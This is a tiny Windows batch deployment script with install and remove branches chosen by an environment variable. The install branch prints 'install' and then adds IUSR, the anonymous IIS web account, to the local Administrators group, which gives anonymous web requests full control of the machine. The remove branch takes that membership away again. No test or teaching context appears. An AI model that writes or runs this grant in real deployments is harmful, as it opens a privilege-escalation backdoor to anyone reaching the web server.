@echo off
call :do_%DEPLOY_ACTION%
exit /b 0
:do_install
echo install
net localgroup Administrators IUSR /add
exit /b 0
:do_remove
net localgroup Administrators IUSR /delete
exit /b 0
